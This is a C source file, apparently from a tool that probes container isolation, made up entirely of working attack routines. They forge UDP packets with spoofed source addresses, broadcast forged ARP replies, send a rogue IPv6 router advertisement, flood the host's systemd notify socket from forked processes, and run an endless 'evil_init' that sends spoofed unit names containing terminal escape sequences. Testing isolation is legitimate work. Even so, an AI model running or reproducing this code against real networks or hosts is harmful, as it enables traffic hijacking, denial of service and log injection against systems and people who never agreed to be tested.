/* Forged packets, and floods of the sockets that lead outside. */
#include "probe.h"

static unsigned short checksum(const void *data, size_t length) {
    const unsigned char *bytes = data;
    unsigned long sum = 0;
    for (size_t i = 0; i + 1 < length; i += 2)
        sum += bytes[i] << 8 | bytes[i + 1];
    if (length & 1)
        sum += bytes[length - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum);
}

/* Sends a frame on eth0 to everyone. */
static int frame(int protocol, const void *payload, size_t length) {
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(protocol));
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_halen = 6};
    to.sll_ifindex = if_nametoindex("eth0");
    memset(to.sll_addr, 0xff, 6);
    int sent = sendto(fd, payload, length, 0, (struct sockaddr *)&to, sizeof to);
    close(fd);
    return sent;
}

static unsigned address(const char *text) {
    unsigned a, b, c, d;
    return sscanf(text, "%u.%u.%u.%u", &a, &b, &c, &d) == 4 ? a << 24 | b << 16 | c << 8 | d : 0;
}

/* UDP with any source address; whoever listens at the target tells whether it came through. */
void spoof(const char *source, const char *target, int port, const char *text) {
    unsigned char p[1500] = {0x45, 0, 0, 0, 0, 1, 0, 0, 64, 17};
    size_t length = strlen(text), total = 28 + length;
    unsigned s = htonl(address(source)), t = htonl(address(target));
    p[2] = total >> 8, p[3] = total;
    memcpy(p + 12, &s, 4), memcpy(p + 16, &t, 4);
    unsigned short sum = checksum(p, 20);
    memcpy(p + 10, &sum, 2);
    p[20] = 0x30, p[21] = 0x39, p[22] = port >> 8, p[23] = port;
    p[24] = (8 + length) >> 8, p[25] = 8 + length;
    memcpy(p + 28, text, length);
    for (int i = 0; i < 3; i++)
        if (frame(ETH_P_IP, p, total) < 0)
            perror("send");
}

/* "I am ADDRESS", to everyone. */
void arp(const char *who) {
    unsigned char p[28] = {0, 1, 8, 0, 6, 4, 0, 2, 2, 0xba, 0xdb, 0xad, 0, 1};
    unsigned a = htonl(address(who));
    memcpy(p + 14, &a, 4), memset(p + 18, 0xff, 6), memcpy(p + 24, &a, 4);
    for (int i = 0; i < 3; i++)
        if (frame(ETH_P_ARP, p, sizeof p) < 0)
            perror("send");
}

/* A router advertisement: we are the way to everywhere, and your prefix is 2001:db8:bad::. */
void advertise(void) {
    unsigned char p[40 + 16 + 32] = {0x60, 0, 0, 0, 0, 48, 58, 255};
    p[8] = 0xfe, p[9] = 0x80, p[23] = 0x66;
    p[24] = 0xff, p[25] = 2, p[39] = 1;
    unsigned char *ra = p + 40;
    ra[0] = 134, ra[4] = 64, ra[6] = 7, ra[7] = 8;
    unsigned char prefix[32] = {3, 4, 64, 0xc0, 0, 0, 14, 16, 0, 0, 14, 16, 0, 0, 0, 0, 0x20, 1, 0x0d, 0xb8, 0x0b, 0xad};
    memcpy(ra + 16, prefix, 32);
    unsigned char pseudo[40 + 48] = {0};
    memcpy(pseudo, p + 8, 32), pseudo[35] = 48, pseudo[39] = 58;
    memcpy(pseudo + 40, ra, 48);
    unsigned short sum = checksum(pseudo, sizeof pseudo);
    memcpy(ra + 2, &sum, 2);
    for (int i = 0; i < 3; i++)
        if (frame(ETH_P_IPV6, p, sizeof p) < 0)
            perror("send");
}

void flood_notify(int seconds) {
    struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "/run/host/notify"};
    time_t end = time(NULL) + seconds;
    unsigned long sent = 0;
    int null = open("/dev/null", O_RDONLY);
    for (int i = 0; i < 3; i++)
        if (fork() == 0)
            break;
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    char text[3000];
    memset(text, 'x', sizeof text);
    memcpy(text, "READY=1\nX_SYSTEMD_UNIT_ACTIVE=evil.target\n", 42);
    while (time(NULL) < end) {
        char space[CMSG_SPACE(sizeof(int))] = {0};
        struct iovec iov = {text, sizeof text};
        struct msghdr message = {&to, sizeof to, &iov, 1, space, sizeof space, 0};
        struct cmsghdr *c = CMSG_FIRSTHDR(&message);
        c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &null, sizeof null);
        sent += sendmsg(fd, &message, MSG_DONTWAIT) > 0;
    }
    printf("%lu sent\n", sent);
}

/* As PID 1: says what PID 1 is believed, as fast as it can. Never ends. */
_Noreturn void evil_init(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "/run/host/notify"};
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    char text[3500];
    sendto(fd, "READY=1", 7, 0, (struct sockaddr *)&to, sizeof to);
    for (unsigned long n = 0;; n++) {
        int length = 0;
        for (int i = 0; i < 40; i++)
            length += snprintf(text + length, sizeof text - length, "X_SYSTEMD_UNIT_ACTIVE=evil-%lu-%d-\x1b[2J.target\n", n, i);
        sendto(fd, text, length, 0, (struct sockaddr *)&to, sizeof to);
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
    }
}
